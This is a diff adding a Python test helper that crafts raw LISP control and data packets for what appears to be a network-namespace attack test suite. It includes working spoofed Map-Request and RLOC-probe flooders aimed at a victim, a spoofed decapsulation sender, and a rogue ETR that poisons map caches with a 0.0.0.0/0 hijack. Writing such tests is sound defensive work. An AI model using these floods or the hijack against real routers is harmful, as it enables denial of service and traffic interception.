@@ -1,0 +1,151 @@
+#!/usr/bin/env python3
+"""Hostile traffic for tests/netns/t_attacks.sh, built with struct alone
+(no LISP library), each run bounded in count and time:
+
+  sink ADDR PORT SECONDS           count the datagrams and payload octets
+                                   arriving on ADDR:PORT, print JSON
+  mr-flood MR VICTIM N             N ECM Map-Requests of 8 records for
+                                   unregistered EIDs, from random spoofed
+                                   sources in 198.19.0.0/16, ITR-RLOC VICTIM
+  probe-flood ETR EID VICTIM N     N RLOC-probes for EID/24 to ETR:4342,
+                                   spoofed from VICTIM (its ITR-RLOC)
+  decap ETR INNER_SRC INNER_DST    one LISP data packet (instance-id 0) to
+                                   ETR:4341 carrying an ICMP echo request
+  evil-etr ADDR OWN VICTIM         an ETR whose site key the attacker holds:
+                                   answers the first ECM forwarded to it
+                                   with 0.0.0.0/0, VICTIM and OWN, all to
+                                   ADDR (the cache hijack)
+Each sender prints JSON with what it sent (messages, payload octets)."""
+import json
+import random
+import socket
+import struct
+import sys
+import time
+
+
+def csum(b):
+    if len(b) % 2:
+        b += b'\0'
+    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def ipv4(src, dst, proto, payload, ttl=64):
+    hdr = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 0, 0x4000,
+                      ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
+    hdr = hdr[:10] + struct.pack('!H', csum(hdr)) + hdr[12:]
+    return hdr + payload
+
+
+def udp(src, dst, sport, dport, payload):
+    # checksum 0 (allowed for IPv4 UDP)
+    return struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload
+
+
+def map_request(nonce, itr, eids, probe=False, mlen=32):
+    flags = 0x02000000 if probe else 0   # P (bit 6)
+    w0 = (1 << 28) | flags | (0 << 8) | len(eids)  # IRC 0: one ITR-RLOC
+    m = struct.pack('!IQ', w0, nonce)
+    m += struct.pack('!H', 0)                      # Source-EID AFI 0
+    m += struct.pack('!H', 1) + socket.inet_aton(itr)
+    for e in eids:
+        m += struct.pack('!BBH', 0, mlen, 1) + socket.inet_aton(e)
+    return m
+
+
+def raw_send(pkt, dst):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.sendto(pkt, (dst, 0))
+    s.close()
+
+
+def sink(args):
+    addr, port, secs = args[0], int(args[1]), float(args[2])
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((addr, port))
+    s.settimeout(0.2)
+    n = octets = 0
+    end = time.time() + secs
+    while time.time() < end:
+        try:
+            d = s.recv(65535)
+        except socket.timeout:
+            continue
+        n += 1
+        octets += len(d)
+    print(json.dumps({'datagrams': n, 'octets': octets}))
+
+
+def mr_flood(args):
+    # mr-flood MR VICTIM N [A.B.C]: the 8 EIDs in A.B.C.0/24 (registered
+    # space) instead of unregistered 198.51.100.0/24
+    mr, victim, n = args[0], args[1], int(args[2])
+    base = args[3] if len(args) > 3 else '198.51.100'
+    sent = octets = 0
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(n):
+        eids = ['%s.%d' % (base, random.randint(2, 250)) for k in range(8)]
+        inner = map_request(random.getrandbits(64), victim, eids)
+        inner_ip = ipv4(victim, eids[0], 17, udp(victim, eids[0], 40000, 4342, inner))
+        ecm = struct.pack('!I', 8 << 28) + inner_ip
+        src = '198.19.%d.%d' % (random.randint(0, 255), random.randint(1, 254))
+        s.sendto(ipv4(src, mr, 17, udp(src, mr, 4342, 4342, ecm)), (mr, 0))
+        sent += 1
+        octets += len(ecm)
+    print(json.dumps({'messages': sent, 'octets': octets}))
+
+
+def probe_flood(args):
+    etr, eid, victim, n = args[0], args[1], args[2], int(args[3])
+    sent = octets = 0
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(n):
+        m = map_request(random.getrandbits(64), victim, [eid], probe=True, mlen=24)
+        s.sendto(ipv4(victim, etr, 17, udp(victim, etr, 40001, 4342, m)), (etr, 0))
+        sent += 1
+        octets += len(m)
+    print(json.dumps({'messages': sent, 'octets': octets}))
+
+
+def decap(args):
+    etr, isrc, idst = args
+    icmp = struct.pack('!BBHHH', 8, 0, 0, 0x4c49, 1) + b'spoofed-decap'
+    icmp = icmp[:2] + struct.pack('!H', csum(icmp)) + icmp[4:]
+    lisp = struct.pack('!II', 0, 0) + ipv4(isrc, idst, 1, icmp)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(lisp, (etr, 4341))
+    print(json.dumps({'messages': 1, 'octets': len(lisp)}))
+
+
+def evil_etr(args):
+    addr, own, victim = args
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((addr, 4342))
+    s.settimeout(20)
+    data, frm = s.recvfrom(2048)
+    ip = data[4:]
+    ihl = (ip[0] & 15) * 4
+    sport = struct.unpack('!H', ip[ihl:ihl + 2])[0]
+    mreq = ip[ihl + 8:]
+    nonce = struct.unpack('!Q', mreq[4:12])[0]
+    off = 12
+    afi = struct.unpack('!H', mreq[off:off + 2])[0]
+    off += 2 + {0: 0, 1: 4, 2: 16}[afi]
+    itr = socket.inet_ntoa(mreq[off + 2:off + 6])
+    recs = [('0.0.0.0', 0), tuple(victim.split('/')), tuple(own.split('/'))]
+    rep = struct.pack('!IQ', (2 << 28) | len(recs), nonce)
+    for net, mlen in recs:
+        rep += struct.pack('!IBBHHH', 1440, 1, int(mlen), 0x1000, 0, 1) + socket.inet_aton(net)
+        rep += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(addr)
+    s.sendto(rep, (itr, sport))
+    print(json.dumps({'answered': itr, 'records': len(recs)}), flush=True)
+
+
+if __name__ == '__main__':
+    cmd, rest = sys.argv[1], sys.argv[2:]
+    {'sink': sink, 'mr-flood': mr_flood, 'probe-flood': probe_flood,
+     'decap': decap, 'evil-etr': evil_etr}[cmd](rest)
